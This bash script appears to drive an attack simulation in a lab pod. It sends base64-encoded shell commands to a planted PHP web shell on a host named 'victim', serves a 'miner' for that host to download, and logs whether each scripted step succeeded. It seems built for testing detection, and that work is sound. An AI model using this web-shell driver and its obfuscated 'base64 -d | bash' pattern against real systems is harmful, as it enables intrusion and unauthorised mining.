#!/bin/bash
# Gives the orders in /simulation/orders to the victim's web shell, one after the other, scenario by scenario
# (arguments), and prints what became of each: one JSON object a line. What the victim answers is judged here and thrown
# away: no stolen value leaves this pod or stands in its log.
#
#   {"clock_us":…}                                       before the first order: this pod's clock
#   {"scenario":…,"step":…,"state":"began","began_us":…}
#   {"scenario":…,"step":…,"state":"done","began_us":…}  it had its effect
#   {"scenario":…,"step":…,"state":"failed","began_us":…,"why":…}
#   --- Simulation completed ---
set -u
trap 'exit 0' TERM INT
victim=http://victim
now_us() { date +%s%6N; }

say() { # SCENARIO STEP STATE BEGAN [WHY]
  local why=""
  [ -z "${5-}" ] || why=",\"why\":\"$5\""
  printf '{"scenario":"%s","step":"%s","state":"%s","began_us":%s%s}\n' "$1" "$2" "$3" "$4" "$why"
}

# Judges the answer in $reply: prints what is missing, or nothing.
judge() { # PLAIN STATUSES PRINTS
  local status line
  if [ -z "$1" ]; then
    status=$(sed -n 's/^exit status: \([0-9]*\)$/\1/p' <<< "$reply" | tail -n 1)
    [ -n "$status" ] || { echo "the script did not run to its end"; return; }
    [ -z "$2" ] || [[ " $2 " == *" $status "* ]] || { echo "it ended with status $status"; return; }
  fi
  [ -n "$3" ] || return
  # Not by grep: what is looked for would stand in its arguments, and be an alert about the attacker.
  while IFS= read -r line; do
    if [[ $line =~ $3 ]]; then return; fi
  done <<< "$reply"
  echo "its output lacks what it should print"
}

give() { # SCENARIO FILE
  local head script step plain statuses prints command began code why
  head=$(grep '^# ' "$2")
  script=$(grep -v '^# ' "$2")
  step=$(sed -n 's/^# step: //p' <<< "$head")
  plain=$(sed -n 's/^# plain$/plain/p' <<< "$head")
  statuses=$(sed -n 's/^# ends with: //p' <<< "$head")
  prints=$(sed -n 's/^# prints: //p' <<< "$head")
  command=$script
  if [ -z "$plain" ]; then
    # Standard error goes with the output, so that a refusal can be read; the status is the script's last word.
    script=$(printf 'exec 2>&1\n%s\nstatus=$?\necho\necho "exit status: $status"\n' "$script" | base64 -w0)
    command="echo $script| base64 -d| bash"
  fi
  began=$(now_us)
  say "$1" "$step" began "$began"
  reply=$(curl -Gsf -m 50 --data-urlencode "cmd=$command" "$victim/ws.php" | tr -d '\0'; exit "${PIPESTATUS[0]}")
  code=$?
  if [ $code -ne 0 ]; then why="the web shell did not answer (curl's status $code)"; else why=$(judge "$plain" "$statuses" "$prints"); fi
  if [ -z "$why" ]; then say "$1" "$step" done "$began"; else say "$1" "$step" failed "$began" "$why"; fi
}

# Serves the "miner" that the victim downloads.
busybox httpd -f -p 80 -h /simulation/pages &
if ! curl -sf -o /dev/null --retry 60 --retry-delay 1 --retry-all-errors "$victim/ready.php"; then
  printf '{"state":"no_victim"}\n'
  exit 1
fi
end=$((SECONDS + START_DELAY))
while [ $SECONDS -lt $end ]; do
  printf '{"clock_us":%s}\n' "$(now_us)"
  sleep 0.2
done
for scenario in "$@"; do
  for file in /simulation/orders/"$scenario".*.sh; do
    [ ! -e "$file" ] || give "$scenario" "$file"
  done
done
echo "--- Simulation completed ---"
wait
